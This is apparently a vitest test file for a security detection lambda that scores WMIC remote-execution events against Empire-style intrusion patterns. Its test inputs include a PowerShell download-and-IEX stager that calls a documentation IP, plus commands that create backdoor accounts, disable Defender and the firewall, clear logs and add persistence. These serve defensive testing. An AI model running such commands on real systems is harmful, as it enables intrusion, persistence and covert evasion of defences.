/**
 * Context reasons, one test row each, modelled on real tools' telemetry:
 * - Empire: its launcher is `powershell -noP -sta -w 1 -enc <base64>` (Empire's launcher generator,
 *   BC-SECURITY/Empire `lib/common/helpers` and the stager listeners), and in the recorded Sysmon of
 *   an Empire intrusion the agent runs `WMIC.exe /node:HOST process call create "net user /add NAME PASSWORD"`
 *   (docs/reference/wmic-detection-rules.md, addendum round three).
 * - The follow-on commands are the ATT&CK procedure examples named in the same addendum:
 *   `net localgroup administrators … /add` (T1098), `Set-MpPreference -DisableRealtimeMonitoring`
 *   (T1562.001), `wevtutil cl` (T1070.001), `schtasks /create` (T1053.005), and Sigma's own test
 *   shapes for services, Run keys and the firewall (ids in lambda/detect/risk-reasons.ts).
 */
import { describe, expect, it } from 'vitest';
import { WMIC_REMOTE_EXEC } from '../../lambda/hunts/index.js';
import { assessRisk, createDetector, loadAllowlist, RISK_REASONS } from '../../lambda/detect/index.js';
import { encodePs, wmic } from './helpers.js';

const codes = (line: string, extra: Record<string, unknown> = {}) => assessRisk(wmic(line, extra), 85).reasons.map((r) => r.code);
const remote = (payload: string) => `wmic /node:DC01 process call create "${payload}"`;

// The shape of Empire's stager script (its first statements), not its code: version check, AMSI
// bypass, a WebClient with a user agent, then IEX of what the listener sends.
const EMPIRE_STAGER = [
  "If($PSVersionTable.PSVersion.Major -ge 3){$ref=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')}",
  '$wc=New-Object System.Net.WebClient;$u=\'Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko\'',
  "$wc.Headers.Add('User-Agent',$u);$ser='http://198.51.100.44:80';$t='/login/process.php'",
  "$data=$wc.DownloadData($ser+$t);IEX ([Text.Encoding]::ASCII.GetString($data))",
].join(';');
const EMPIRE_PARENT = { actor_process_image_name: 'powershell.exe', actor_process_command_line: `powershell -noP -sta -w 1 -enc ${encodePs(EMPIRE_STAGER)}` };

describe('context reasons', () => {
  it("names Empire's stager as the launcher, decodes its script, and names the account it creates", () => {
    const a = wmic(remote('net user /add backdoor P4ssw0rd!2026'), EMPIRE_PARENT);
    const risk = assessRisk(a, 85);
    expect(risk.reasons.map((r) => r.code)).toEqual(['payload.account-creation', 'parent.stager']);
    expect(risk).toMatchObject({ riskScore: 100, severity: 'critical' });
    expect(a.parentDecodedScript).toContain('$data=$wc.DownloadData($ser+$t);IEX');
    expect(a.remoteCommand).toBe('net user /add backdoor ***');
    expect(JSON.stringify(a)).not.toContain('P4ssw0rd');
    const [finding] = createDetector({ hunt: WMIC_REMOTE_EXEC, allowlist: loadAllowlist({ schemaVersion: 1, entries: [] }) })([{ event_id: 'e', agent_hostname: 'WS-7', action_process_image_name: 'wmic.exe', action_process_image_command_line: a.commandLine, ...EMPIRE_PARENT }], 0).findings;
    expect(finding?.parentDecodedScript).toBe(a.parentDecodedScript);
  });

  it('reads every stager shape on the parent, and no plain PowerShell as one', () => {
    const parent = (line: string) => codes(remote('calc.exe'), { actor_process_image_name: 'powershell.exe', actor_process_command_line: line });
    expect(parent('powershell -noP -sta -w 1 -enc SQBFAFgA')).toContain('parent.stager');
    expect(parent('powershell.exe -NoProfile -WindowStyle Hidden -File C:\\x.ps1')).toContain('parent.stager');
    expect(parent('powershell -nop -noni -c Get-Date')).toContain('parent.stager');
    expect(parent("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a')\"")).toContain('parent.stager');
    expect(parent('"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"')).not.toContain('parent.stager');
    expect(parent('powershell -NoProfile -File C:\\scripts\\inventory.ps1')).not.toContain('parent.stager');
    // the same shapes on a cmd parent are not PowerShell's
    expect(codes(remote('calc.exe'), { actor_process_image_name: 'cmd.exe', actor_process_command_line: 'cmd /c x -w hidden' })).not.toContain('parent.stager');
  });

  it('names privileged group changes, defence impairment, log clearing and persistence', () => {
    expect(codes(remote('cmd /c net localgroup administrators backdoor /add'))).toContain('payload.privileged-group');
    expect(codes(remote('net group \\"Domain Admins\\" backdoor /add /domain'))).toContain('payload.privileged-group');
    expect(codes(remote('powershell Set-MpPreference -DisableRealtimeMonitoring $true'))).toContain('payload.defense-impairment');
    expect(codes(remote('cmd /c sc stop WinDefend'))).toContain('payload.defense-impairment');
    expect(codes(remote('netsh advfirewall set allprofiles state off'))).toContain('payload.defense-impairment');
    expect(codes(remote('cmd /c wevtutil cl Security'))).toContain('payload.log-clearing');
    expect(codes(remote('powershell Clear-EventLog -LogName System'))).toContain('payload.log-clearing');
    expect(codes(remote('schtasks /create /tn Updater /tr C:\\ProgramData\\u.exe /sc onlogon /ru SYSTEM'))).toContain('payload.persistence');
    expect(codes(remote('sc create upd binPath= C:\\ProgramData\\u.exe start= auto'))).toContain('payload.persistence');
    expect(codes(remote('reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\ProgramData\\u.exe /f'))).toContain('payload.persistence');
    expect(codes(remote('gpupdate /force'))).toEqual([]);
  });

  it('reads the payload inside the remote command\'s own encoded script', () => {
    const enc = encodePs('Set-MpPreference -DisableRealtimeMonitoring $true; New-LocalUser -Name svc -NoPassword');
    expect(codes(remote(`powershell -enc ${enc}`))).toEqual(expect.arrayContaining(['payload.defense-impairment', 'payload.account-creation']));
  });

  it('names discovery-only payloads as a lower tier: no points, and not when the payload also acts', () => {
    const recon = assessRisk(wmic(remote('cmd /c net group \\"domain admins\\" /domain')), 85);
    expect(recon.reasons.map((r) => r.code)).toEqual(['payload.cmd-chain', 'payload.discovery-only']);
    expect(RISK_REASONS['payload.discovery-only'].points).toBeLessThan(RISK_REASONS['payload.persistence'].points);
    expect(codes(remote('whoami'))).toEqual(['payload.discovery-only']);
    expect(codes(remote('cmd /c whoami & net user backdoor x /add'))).not.toContain('payload.discovery-only');
  });

  it("names the hunt's own guidance: an unusual parent making wmic launch PowerShell remotely", () => {
    // a web shell under IIS (w3wp.exe) pivoting, as in the hunt card's false-positive note
    const web = codes(remote('powershell -nop -c whoami'), { actor_process_image_name: 'w3wp.exe', actor_process_command_line: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool"' });
    expect(web).toContain('parent.unusual-launches-powershell');
    expect(codes(remote('powershell -nop -c whoami'), { actor_process_image_name: 'cmd.exe' })).not.toContain('parent.unusual-launches-powershell');
    expect(codes(remote('calc.exe'), { actor_process_image_name: 'w3wp.exe' })).not.toContain('parent.unusual-launches-powershell');
    expect(codes(remote('powershell -c x'), { actor_process_image_name: 'CcmExec.exe' })).not.toContain('parent.unusual-launches-powershell');
  });

  it('gives every context reason a public source and a follow-on technique', () => {
    const context = ['parent.stager', 'parent.unusual-launches-powershell', 'payload.account-creation', 'payload.privileged-group', 'payload.defense-impairment', 'payload.log-clearing', 'payload.persistence', 'payload.discovery-only'] as const;
    for (const code of context) {
      const r: { source?: string; technique?: string } = RISK_REASONS[code];
      expect(r.source, code).toMatch(/Sigma [0-9a-f]{8}-|hunt card/);
      expect(r.technique, code).toMatch(/^T\d{4}/);
    }
  });
});
